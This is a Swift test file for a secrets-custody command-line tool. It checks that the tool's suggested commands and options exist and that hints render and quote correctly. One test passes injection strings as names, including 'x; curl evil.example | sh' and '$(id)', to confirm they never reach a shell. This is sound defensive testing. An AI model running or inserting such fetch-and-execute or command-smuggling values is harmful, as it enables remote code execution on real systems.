import Custody
import CustodyEvidence
import CustodyLog
import Foundation
import Testing

@testable import CustodyTool

/// The library's steps as the command line words them.
struct HintTests {
  private static let token = "contoso/crm-sync"

  private static let steps: [NextStep] = [
    .found, .join, .joinAsMachine, .makeKeyFile, .unlock, .lockAll, .seeStatus, .listMembers, .approveMember,
    .changeRole(of: "dev", to: .auditor), .list(.token), .show(.connector, "crm-sync"), .rotate(.token, token),
    .revert(.token, token), .share(.token, token, with: "dev"), .settle(.token, token, revision: 2),
    .retire(.token, token), .confirm(token: token), .exchange, .keepAlive(token: token), .listExposures,
    .changeScope(connector: "crm-sync"), .renewPreset, .listProviders, .addProvider, .showLog, .verifyLog,
    .planRecovery, .recover, .recoverCovering, .recordLastSeen, .proveGrowth(from: 7), .exportBundle, .exportLog,
    .verifyBundle(checkpoint: "head"), .verifyVault("vault.db"), .repair, .repairFromCopy, .repairCutting,
  ]

  private static let choices: [Choice] = [
    .vault, .copy, .orphan, .reason, .until, .genesis, .keyFile, .role(.developer), .askAgain, .noAgent, .size(15),
    .proofStart(7), .jsonLines, .login, .port, .revoke, .clientAuthentication, .variable("region"), .grace, .provider,
    .tenantReach, .dryRun, .mapping("KEY", to: "secret"), .noColumn("Owner"),
  ]

  private static func cases(in path: String) throws -> Int {
    let root = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
    let file = root.deletingLastPathComponent().appendingPathComponent(path)
    return try String(contentsOf: file, encoding: .utf8).split(separator: "\n").filter { $0.hasPrefix("  case ") }.count
  }

  @Test func `each step and each choice is tried`() throws {
    #expect(
      Set(Self.steps.map(\.command)).count == (try Self.cases(in: "Sources/CustodyEvidence/Hints/NextStep.swift")) - 3)
    #expect(Set(Self.choices).count == (try Self.cases(in: "Sources/CustodyEvidence/Hints/Choice.swift")))
  }

  @Test(arguments: steps) func `a step is a command that there is, with options that it has`(step: NextStep) throws {
    let words = step.command.split(separator: " ").map(String.init)
    #expect(words.first == "custody")
    var (command, rest) = (try CommandShape(of: CustodyCommand.self), words.dropFirst())
    while let word = rest.first, let next = command.child(word) { (command, rest) = (next, rest.dropFirst()) }
    #expect(command.children.isEmpty, "\(step.command)")
    for option in rest where option.hasPrefix("--") {
      #expect(command.optionNames.contains(option), "\(step.command): \(option)")
    }
    #expect(step.quoted == "\"\(step.command)\"")
  }

  @Test(arguments: choices) func `a choice is an option that some command has`(choice: Choice) throws {
    let names = try CommandShape(of: CustodyCommand.self).shown.reduce(into: Set<String>()) {
      $0.formUnion($1.optionNames)
    }
    #expect(names.contains(choice.option))
    #expect(NextStep.leaveOut(choice).quoted == choice.option && NextStep.use(choice).quoted == choice.option)
    #expect(NextStep.give(choice).quoted == choice.option + (choice.value.map { " \($0)" } ?? ""))
  }

  @Test(arguments: ["x; curl evil.example | sh", "$(id)", "a/../b c", "--yes", "", "a//b", "\u{1B}[2J"])
  func `a name that would run in a shell stands in no command`(name: String) {
    #expect(NextStep.rotate(.connector, name).command == "custody connector rotate NAME")
    #expect(NextStep.share(.token, name, with: name).command == "custody token share NAME --with NAME")
    #expect(NextStep.settle(.token, name, revision: 1).command == "custody token settle NAME --revision 1")
  }

  @Test func `a path is quoted for a shell`() {
    #expect(NextStep.verifyVault("it's.db").command == #"custody log verify --vault 'it'\''s.db'"#)
  }

  @Test func `a sentence shows its steps in quotes, or bare`() {
    let hint: Hint = "nothing was sent: \(step: .rotate(.token, Self.token)); or \(step: .use(.askAgain))"
    #expect(hint.typed == #"nothing was sent: "custody token rotate contoso/crm-sync"; or --ask-again"#)
    #expect(hint.bare == "nothing was sent: custody token rotate contoso/crm-sync; or --ask-again")
    #expect("\(hint)" == #"nothing was sent: "rotate token contoso/crm-sync"; or "ask again""#)
    #expect(hint.steps == [.rotate(.token, Self.token), .use(.askAgain)])
    let (way, rest): (String, Hint) = ("basic", "or \(step: .listMembers)")
    #expect("say \(way), " + rest == "say basic, or \(step: .listMembers)" as Hint)
    #expect("say \(way), \(rest)" == "say basic, or \(step: .listMembers)" as Hint)
  }

  @Test(arguments: VaultError.Code.all) func `a code that always has a hint has one that can be typed`(
    code: VaultError.Code
  ) {
    guard let hint = VaultError(code, "it failed").hint else { return }
    #expect(!hint.typed.isEmpty && !hint.typed.hasSuffix("."))
    #expect(hint.typed.first?.isUppercase == false)
  }
}
